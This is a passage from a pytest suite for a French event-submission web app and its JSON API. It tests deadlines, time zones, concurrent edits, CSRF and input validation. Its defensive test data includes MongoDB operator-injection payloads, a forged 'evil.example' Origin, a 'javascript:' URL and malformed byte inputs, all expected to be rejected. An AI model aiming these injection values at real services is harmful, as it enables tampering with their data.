    def test_unknown_filter_value_is_400_naming_it(self, httpd, name, value):
        r = requests.get(f"{httpd.url}/api/v1/events", params={name: value}, timeout=5)
        err = api_error(r, 400)
        assert name in err["message"], err
        assert name in err.get("fields", {}), err


# ---- deadline -----------------------------------------------------------------------------


def test_deadline_refuses_creation_and_allows_edits(httpd, mdb, alice):
    eid, fields = create(alice, mdb)
    api_id = create_api(alice)["id"]
    with configured(httpd, f"    MoisInnoSubmissionDeadline {PAST_DEADLINE}"):
        before = counts(mdb)
        r = alice.get("/espace/evenements/nouveau")
        assert r.status_code == 403, r.status_code
        assert "2000-01-01" in text_of(r)
        r, _ = alice.create_form()
        assert r.status_code == 403 and "2000-01-01" in text_of(r)
        err = api_error(alice.create_api(), 403)
        assert "2000-01-01" in err["message"]
        assert counts(mdb)[0] == before[0]

        r = alice.get("/espace")
        assert "/espace/evenements/nouveau" not in r.text
        assert "2000-01-01" in text_of(r)
        r = alice.get(f"/espace/evenements/{eid}/modifier")
        assert r.status_code == 200
        r = alice.edit_form(eid, dict(fields, city="Talence"), version=1)
        assert_redirect_to_space(httpd, r, "modifie")
        assert event_doc(mdb, eid)["city"] == "Talence"
        r = alice.api("PATCH", f"/{api_id}", {"summary": "Résumé revu après la date limite."})
        assert r.status_code == 200, r.text
        assert r.json()["version"] == 2
    with configured(httpd, "    MoisInnoSubmissionDeadline 2099-10-29T23:59:59+02:00"):
        r, _ = alice.create_form()
        assert r.status_code == 303


# ---- time zones ------------------------------------------------------------------------------


ZONES = [
    ("Réunion", "04", "974", "Indian/Reunion", utc(2022, 11, 10, 5, 0), "+04:00"),
    ("Guadeloupe", "01", "971", "America/Guadeloupe", utc(2022, 11, 10, 13, 0), "-04:00"),
    ("Gironde", "75", "33", "Europe/Paris", utc(2022, 11, 10, 8, 0), "+01:00"),
]


@pytest.mark.parametrize("place,region,department,zone,start_utc,offset", ZONES,
                         ids=[z[0] for z in ZONES])
def test_local_times_by_department(httpd, mdb, alice, place, region, department, zone,
                                   start_utc, offset):
    eid, _ = create(alice, mdb, region=region, department=department, city=place,
                    starts_at="2022-11-10T09:00", ends_at="2022-11-10T11:00")
    doc = event_doc(mdb, eid)
    assert doc["timezone"] == zone
    assert stored_utc(doc["starts_at"]) == start_utc
    assert (stored_utc(doc["ends_at"]) - stored_utc(doc["starts_at"])).total_seconds() == 7200
    r = alice.api("GET", f"/{eid}")
    assert r.status_code == 200
    ev = r.json()
    assert ev["starts_at"] == "2022-11-10T09:00:00" + offset
    assert ev["ends_at"] == "2022-11-10T11:00:00" + offset
    assert ev["timezone"] == zone
    # The edit form shows local times again.
    page = scan_event_form(alice.get(f"/espace/evenements/{eid}/modifier").text)
    assert page.values["starts_at"] == "2022-11-10T09:00"
    assert page.values["ends_at"] == "2022-11-10T11:00"
    assert "10 novembre 2022 à 09:00" in space_row(alice.get("/espace"), eid)


def test_edition_days_are_counted_in_the_local_zone(httpd, mdb, alice):
    # 30 November 22:00 in Guadeloupe is 1 December in UTC: inside the edition.
    eid, _ = create(alice, mdb, region="01", department="971", city="Pointe-à-Pitre",
                    starts_at="2022-11-30T22:00", ends_at="2022-11-30T23:30")
    assert stored_utc(event_doc(mdb, eid)["starts_at"]) == utc(2022, 12, 1, 2, 0)
    # 2 November 00:30 in Réunion is 1 November in UTC: inside the edition.
    eid, _ = create(alice, mdb, region="04", department="974", city="Saint-Pierre",
                    starts_at="2022-11-02T00:30", ends_at="2022-11-02T02:00")
    assert stored_utc(event_doc(mdb, eid)["starts_at"]) == utc(2022, 11, 1, 20, 30)


# ---- concurrent edits ---------------------------------------------------------------------------


def race(fns):
    """Runs the callables at the same instant; returns their results in order."""
    barrier = threading.Barrier(len(fns))
    results = [None] * len(fns)

    def run(i):
        barrier.wait()
        results[i] = fns[i]()

    threads = [threading.Thread(target=run, args=(i,)) for i in range(len(fns))]
    for t in threads:
        t.start()
    for t in threads:
        t.join(30)
    return results


def raw(o, method, path, **kw):
    headers = dict(kw.pop("headers", {}) or {})
    headers["Cookie"] = f"{SESSION_COOKIE}={o.cookie}"
    return requests.request(method, o.httpd.url + path, headers=headers, allow_redirects=False,
                            timeout=30, **kw)


ROUNDS = 5


def test_concurrent_form_edits_with_one_version_one_wins(httpd, mdb, alice):
    eid, fields = create(alice, mdb)
    for n in range(ROUNDS):
        v = event_doc(mdb, eid)["version"]
        updates = len([h for h in history(mdb, eid) if h["action"] == "update"])
        titles = [f"{fields['title']} — onglet {n}.{i}" for i in range(2)]
        calls = [
            (lambda t=t: raw(alice, "POST", f"/espace/evenements/{eid}/modifier",
                             data=form_items(dict(fields, title=t), csrf=alice.csrf, version=v)))
            for t in titles
        ]
        res = race(calls)
        codes = sorted(r.status_code for r in res)
        doc = event_doc(mdb, eid)
        after = len([h for h in history(mdb, eid) if h["action"] == "update"])
        assert (codes, doc["version"], after - updates) == ([303, 409], v + 1, 1), (
            f"round {n}: two edits of version {v} answered {codes}; the stored version is now "
            f"{doc['version']} and {after - updates} update(s) were recorded in event_history "
            f"(title kept: {doc['title']!r})")
        winner = titles[[r.status_code for r in res].index(303)]
        loser = res[[r.status_code for r in res].index(409)]
        assert doc["title"] == winner
        assert scan_event_form(loser.text).values["title"] == winner


def test_concurrent_api_patches_with_one_etag_one_wins(httpd, mdb, alice):
    ev = create_api(alice)
    eid = ev["id"]
    for n in range(ROUNDS):
        r = alice.api("GET", f"/{eid}")
        etag, v = r.headers["ETag"], r.json()["version"]
        titles = [f"Titre concurrent {n}.{i} {tag()}" for i in range(2)]
        calls = [
            (lambda t=t: raw(alice, "PATCH", f"/api/v1/events/{eid}", json={"title": t},
                             headers={"X-CSRF-Token": alice.csrf, "If-Match": etag}))
            for t in titles
        ]
        updates = len([h for h in history(mdb, eid) if h["action"] == "update"])
        res = race(calls)
        codes = sorted(r.status_code for r in res)
        doc = event_doc(mdb, eid)
        after = len([h for h in history(mdb, eid) if h["action"] == "update"])
        answered = [r.json().get("version") if r.status_code == 200 else None for r in res]
        assert (codes, doc["version"], after - updates) == ([200, 412], v + 1, 1), (
            f"round {n}: two PATCHes with If-Match {etag} answered {codes} (versions returned: "
            f"{answered}); the stored version is now {doc['version']} and {after - updates} "
            f"update(s) were recorded in event_history (title kept: {doc['title']!r})")
        winner = res[[r.status_code for r in res].index(200)].json()
        assert doc["title"] == winner["title"]


# ---- the JSON API --------------------------------------------------------------------------------


def test_api_create_get_etag_and_304(httpd, mdb, alice):
    body = valid_json()
    r = alice.api("POST", "", body)
    assert r.status_code == 201, r.text
    ev = r.json()
    eid = ev["id"]
    assert OID_RE.match(eid)
    assert r.headers["Location"].endswith(f"{httpd.base}/api/v1/events/{eid}")
    assert r.headers["ETag"] == f'"{eid}-1"'
    assert r.headers["Content-Type"].startswith("application/json")
    assert set(ev) == EVENT_JSON_FIELDS, set(ev) ^ EVENT_JSON_FIELDS
    for k in ("title", "summary", "description", "type", "format", "audience", "accessibility",
              "starts_at", "ends_at", "online_url", "lab", "organizer_name", "organization",
              "region", "department", "city", "venue", "address", "registration_url"):
        assert ev[k] == body[k], k
    assert ev["status"] == "submitted" and ev["version"] == 1
    assert ev["timezone"] == "Europe/Paris"
    assert ev["url"].endswith(f"{httpd.base}/evenements/{eid}")
    assert RFC3339_RE.match(ev["created_at"]) and RFC3339_RE.match(ev["updated_at"])
    doc = event_doc(mdb, eid)
    assert doc["organizer_id"] == organizer_oid(mdb, alice.email)
    assert stored_utc(doc["starts_at"]) == utc(2022, 11, 15, 13, 0)

    r = alice.api("GET", f"/{eid}")
    assert r.status_code == 200 and r.json() == ev
    assert r.headers["ETag"] == f'"{eid}-1"'
    r = alice.api("GET", f"/{eid}", headers={"If-None-Match": f'"{eid}-1"'})
    assert r.status_code == 304 and r.content == b""
    r = alice.api("GET", f"/{eid}", headers={"If-None-Match": f'"{eid}-0"'})
    assert r.status_code == 200

    # The status is not the organiser's to choose.
    r = alice.api("POST", "", valid_json(status="published"))
    assert r.status_code == 201 and r.json()["status"] == "submitted", r.text
    assert event_doc(mdb, r.json()["id"])["status"] == "submitted"

    # Defaults from the account when the organiser's name is left out.
    r = alice.api("POST", "", valid_json(organizer_name=..., organization=...))
    assert r.status_code == 201, r.text
    assert r.json()["organizer_name"] == "Alice Organisatrice"
    assert r.json()["organization"] == "Préfecture de la Gironde"


def test_api_put_patch_and_if_match(httpd, mdb, alice):
    ev = create_api(alice)
    eid = ev["id"]
    # A GET → PUT round trip with the read-only fields sent back.
    doc = dict(ev, title=ev["title"] + " (v2)", lab=True)
    r = alice.api("PUT", f"/{eid}", doc, headers={"If-Match": f'"{eid}-1"'})
    assert r.status_code == 200, r.text
    assert r.headers["ETag"] == f'"{eid}-2"'
    put = r.json()
    assert put["version"] == 2 and put["title"] == doc["title"] and put["lab"] is True

    r = alice.api("PATCH", f"/{eid}", {"summary": "Un autre résumé."})
    assert r.status_code == 200, r.text
    patched = r.json()
    assert patched["version"] == 3 and patched["summary"] == "Un autre résumé."
    for k in ("title", "starts_at", "ends_at", "online_url", "audience", "lab"):
        assert patched[k] == put[k], k
    h = history(mdb, eid)[-1]
    assert h["action"] == "update" and h["fields"] == ["summary"]

    before = state(mdb, eid)
    r = alice.api("PATCH", f"/{eid}", {"summary": "Périmé."}, headers={"If-Match": f'"{eid}-2"'})
    api_error(r, 412)
    r = alice.api("PUT", f"/{eid}", valid_json(), headers={"If-Match": f'"{eid}-1"'})
    api_error(r, 412)
    r = alice.api("DELETE", f"/{eid}", headers={"If-Match": f'"{eid}-2"'})
    api_error(r, 412)
    assert state(mdb, eid) == before
    r = alice.api("PATCH", f"/{eid}", {"summary": "À jour."}, headers={"If-Match": f'"{eid}-3"'})
    assert r.status_code == 200 and r.json()["version"] == 4

    # Read-only fields cannot promote an event.
    r = alice.api("PATCH", f"/{eid}", {"status": "published", "version": 99})
    assert r.status_code in (200, 422), r.text
    doc = event_doc(mdb, eid)
    assert doc["status"] == "submitted" and doc["version"] in (4, 5)

    # A PUT replaces: a missing required field is a 422 naming it.
    body = valid_json()
    del body["title"]
    before = state(mdb, eid)
    err = api_error(alice.api("PUT", f"/{eid}", body), 422)
    assert "title" in err["fields"]
    assert state(mdb, eid) == before


def test_api_delete(httpd, mdb, alice):
    eid = create_api(alice)["id"]
    r = alice.api("DELETE", f"/{eid}", headers={"If-Match": f'"{eid}-1"'})
    assert r.status_code == 204, r.text
    assert r.content == b""
    assert event_doc(mdb, eid) is None
    assert history(mdb, eid)[-1]["action"] == "delete"
    api_error(alice.api("GET", f"/{eid}"), 404)
    api_error(alice.api("DELETE", f"/{eid}"), 404)


def test_api_writes_need_a_session_and_the_csrf_header(httpd, mdb, alice):
    eid = create_api(alice)["id"]
    before, total = state(mdb, eid), counts(mdb)
    writes = [("POST", "", valid_json()), ("PUT", f"/{eid}", valid_json()),
              ("PATCH", f"/{eid}", {"title": "Sans jeton CSRF"}), ("DELETE", f"/{eid}", ...)]
    for method, path, body in writes:
        kw = {"json": body} if body is not ... else {}
        r = alice.api(method, path, csrf=False, **kw)
        api_error(r, 403)
        r = alice.api(method, path, csrf="A" * 43, **kw)
        api_error(r, 403)
        r = alice.api(method, path, headers={"Origin": "https://evil.example"}, **kw)
        api_error(r, 403)
        r = requests.request(method, f"{httpd.url}/api/v1/events{path}",
                             headers={"X-CSRF-Token": alice.csrf}, timeout=5, **kw)
        api_error(r, 401)
    assert state(mdb, eid) == before and counts(mdb) == total


def test_api_non_json_body_is_415(httpd, mdb, alice):
    eid = create_api(alice)["id"]
    before, total = state(mdb, eid), counts(mdb)
    text = json.dumps(valid_json())
    for ctype in ("text/plain", "application/x-www-form-urlencoded", None, "application/jsonx"):
        headers = {"Content-Type": ctype} if ctype else {}
        for method, path in (("POST", ""), ("PUT", f"/{eid}"), ("PATCH", f"/{eid}")):
            r = alice.api(method, path, data=text.encode(), headers=headers)
            api_error(r, 415)
    assert state(mdb, eid) == before and counts(mdb) == total


def test_api_body_over_64k_is_413(httpd, mdb, alice):
    eid = create_api(alice)["id"]
    before, total = state(mdb, eid), counts(mdb)
    big = valid_json(description="x" * (70 * 1024))
    for method, path in (("POST", ""), ("PUT", f"/{eid}"), ("PATCH", f"/{eid}")):
        r = alice.api(method, path, big)
        api_error(r, 413)
    assert state(mdb, eid) == before and counts(mdb) == total


@pytest.mark.parametrize("bad_id", ["zzz", "123", "6b0d0c8d20c912dba402536Z",
                                    "000000000000000000000000", "%24ne",
                                    "6b0d0c8d20c912dba4025363aa"])
def test_malformed_or_unknown_id_is_404(httpd, alice, bad_id):
    for method, body in (("GET", ...), ("PUT", valid_json()), ("PATCH", {"title": "Inconnu"}),
                         ("DELETE", ...)):
        r = alice.api(method, f"/{bad_id}", body)
        api_error(r, 404)
    assert alice.get(f"/espace/evenements/{bad_id}/modifier").status_code == 404
    assert alice.edit_form(bad_id, valid_form(), version=1).status_code == 404
    assert alice.cancel_form(bad_id, version=1).status_code == 404
    assert alice.delete_form(bad_id, version=1).status_code == 404


# ---- bad input -------------------------------------------------------------------------------------


JSON_INJECTION = [
    ({"title": {"$ne": 1}}, "title"),
    ({"region": {"$exists": True}}, "region"),
    ({"$where": "1"}, "$where"),
    ({"organizer.name": "x"}, "organizer.name"),
    ({"audience": [{"$gt": ""}]}, "audience"),
    ({"audience": "agents"}, "audience"),
    ({"starts_at": {"$date": 0}}, "starts_at"),
    ({"lab": "1"}, "lab"),
    ({"title": ["Un", "titre"]}, "title"),
    ({"summary": 42}, "summary"),
]


@pytest.mark.parametrize("change,field", JSON_INJECTION, ids=[f for _, f in JSON_INJECTION])
def test_api_operator_injection_is_422_on_the_field(httpd, mdb, alice, change, field):
    eid = create_api(alice)["id"]
    before, total = state(mdb, eid), counts(mdb)
    for method, path in (("POST", ""), ("PATCH", f"/{eid}")):
        body = dict(valid_json(), **change) if method == "POST" else change
        err = api_error(alice.api(method, path, body), 422)
        assert field in err["fields"], err
        assert err["fields"][field]
    assert state(mdb, eid) == before and counts(mdb) == total


@pytest.mark.parametrize("extra", ["region[$gt]=", "region%5B%24gt%5D=", "$where=1",
                                   "title.x=1", "audience[]=agents"])
def test_form_operator_names_are_400(httpd, mdb, alice, extra):
    eid, fields = create(alice, mdb)
    before, total = state(mdb, eid), counts(mdb)
    body = urlencode(form_items(valid_form(), csrf=alice.csrf)) + "&" + extra
    h = {"Content-Type": "application/x-www-form-urlencoded"}
    r = alice.c.post("/espace/evenements/nouveau", data=body, headers=h)
    assert r.status_code == 400, (r.status_code, text_of(r)[:500])
    body = urlencode(form_items(fields, csrf=alice.csrf, version=1)) + "&" + extra
    r = alice.c.post(f"/espace/evenements/{eid}/modifier", data=body, headers=h)
    assert r.status_code == 400, (r.status_code, text_of(r)[:500])
    assert state(mdb, eid) == before and counts(mdb) == total


FORM_BYTES = [
    ("invalid UTF-8", b"title=Atelier+%C3%28+test"),
    ("lone continuation byte", b"title=Atelier+%80+test"),
    ("overlong encoding", b"title=Atelier+%C0%AF+test"),
    ("NUL escaped", b"title=Atelier%00test"),
    ("raw NUL", b"title=Atelier\x00test"),
    ("raw invalid byte", b"title=Atelier\xfftest"),
]


@pytest.mark.parametrize("what,title", FORM_BYTES, ids=[f[0] for f in FORM_BYTES])
def test_form_invalid_utf8_and_nul_are_400(httpd, mdb, alice, what, title):
    total = counts(mdb)
    fields = valid_form()
    del fields["title"]
    body = urlencode(form_items(fields, csrf=alice.csrf)).encode() + b"&" + title
    r = alice.c.post("/espace/evenements/nouveau", data=body,
                     headers={"Content-Type": "application/x-www-form-urlencoded"})
    assert r.status_code == 400, (r.status_code, text_of(r)[:500])
    assert counts(mdb) == total


JSON_BYTES = [
    ("invalid UTF-8", '"Atelier \udcff test"'),
    ("escaped NUL", '"Atelier \\u0000 test"'),
    ("lone surrogate", '"Atelier \\ud800 test"'),
]


@pytest.mark.parametrize("what,title", JSON_BYTES, ids=[j[0] for j in JSON_BYTES])
def test_api_invalid_utf8_and_nul_are_400(httpd, mdb, alice, what, title):
    total = counts(mdb)
    body = json.dumps(valid_json(title="TITLE")).replace('"TITLE"', title)
    data = body.encode("utf-8", "surrogateescape")
    r = alice.api("POST", "", data=data, headers={"Content-Type": "application/json"})
    api_error(r, 400)
    assert counts(mdb) == total


OVERLONG = [
    ("title", "t" * 151), ("summary", "s" * 301), ("description", "d" * 10001),
    ("city", "c" * 201), ("venue", "v" * 201), ("address", "a" * 201),
    ("organizer_name", "n" * 201), ("organization", "o" * 201),
    ("online_url", "https://exemple.gouv.fr/" + "u" * 2000),
]


@pytest.mark.parametrize("field,value", OVERLONG, ids=[o[0] for o in OVERLONG])
def test_api_overlong_fields_are_422(httpd, mdb, alice, field, value):
    total = counts(mdb)
    err = api_error(alice.api("POST", "", valid_json(**{field: value})), 422)
    assert field in err["fields"], err
    assert counts(mdb) == total


API_RULES = [
    ({"starts_at": "2022-02-30T25:61"}, "starts_at"),
    ({"starts_at": "2022-11-15T14:00:00+25:00"}, "starts_at"),
    ({"ends_at": "2022-11-15T13:00:00+01:00"}, "ends_at"),
    ({"format": "presentiel", "region": "99", "department": "33", "city": "Bordeaux",
      "address": "Place"}, "region"),
    ({"format": "presentiel", "region": "11", "department": "33", "city": "Bordeaux",
      "address": "Place"}, "department"),
    ({"department": "976", "region": "04"}, "department"),
    ({"online_url": "javascript:alert(1)"}, "online_url"),
    ({"audience": []}, "audience"),
    ({"type": "Webinaire"}, "type"),
]


@pytest.mark.parametrize("change,field", API_RULES, ids=[str(a[0]) for a in API_RULES])
def test_api_rules_are_422_on_the_field(httpd, mdb, alice, change, field):
    total = counts(mdb)
    err = api_error(alice.api("POST", "", valid_json(**change)), 422)
    assert err["code"]
    assert field in err["fields"], err
    assert counts(mdb) == total


@pytest.mark.parametrize("body", [b"[]", b'"texte"', b"{", b"", b"nul",
                                  b'{"title":"Un titre","title":"Un autre"}'])
def test_api_body_not_a_json_object_is_400(httpd, mdb, alice, body):
    eid = create_api(alice)["id"]
    before, total = state(mdb, eid), counts(mdb)
    for method, path in (("POST", ""), ("PUT", f"/{eid}"), ("PATCH", f"/{eid}")):
        r = alice.api(method, path, data=body, headers={"Content-Type": "application/json"})
        api_error(r, 400)
    assert state(mdb, eid) == before and counts(mdb) == total


@pytest.mark.parametrize("method,path,allow", [
    ("PUT", "/api/v1/events", {"GET", "HEAD", "POST"}),
    ("POST", "/api/v1/events/000000000000000000000000", {"GET", "HEAD", "PUT", "PATCH", "DELETE"}),
    ("GET", "/espace/evenements/000000000000000000000000/annuler", {"POST"}),
    ("DELETE", "/espace/evenements/000000000000000000000000/modifier", {"GET", "HEAD", "POST"}),
    ("GET", "/admin/evenements/000000000000000000000000/publier", {"POST"}),
])
def test_wrong_method_is_405_with_allow(httpd, alice, method, path, allow):
    r = alice.c.request(method, path)
    assert r.status_code == 405, r.status_code
    assert {m.strip() for m in r.headers["Allow"].split(",")} == allow


def test_api_list_has_one_cache_policy(httpd):
    r = requests.get(f"{httpd.url}/api/v1/events", timeout=5)
    assert r.status_code == 200
    values = r.raw.headers.getlist("Cache-Control")
    assert len(values) == 1, f"contradictory Cache-Control headers: {values}"


def test_first_changes_at_once_all_counted(httpd, mdb, alice):
    """The change counter (programme_state) does not exist yet and several
    writes announce themselves at once: none fails (the error-log check
    would see a refused upsert), and the counter has moved. FerretDB 1.x
    may merge concurrent increments into one: harmless, each writer's
    event is in the database before its increment reads the counter, so a
    child that sees the new value reads every one of them."""
    for _ in range(4):
        mdb.programme_state.delete_many({})
        results = race([alice.create_api for _ in range(8)])
        assert [r.status_code for r in results] == [201] * 8, [r.text[:200] for r in results]
        assert 1 <= mdb.programme_state.find_one({"_id": "events"})["seq"] <= 8
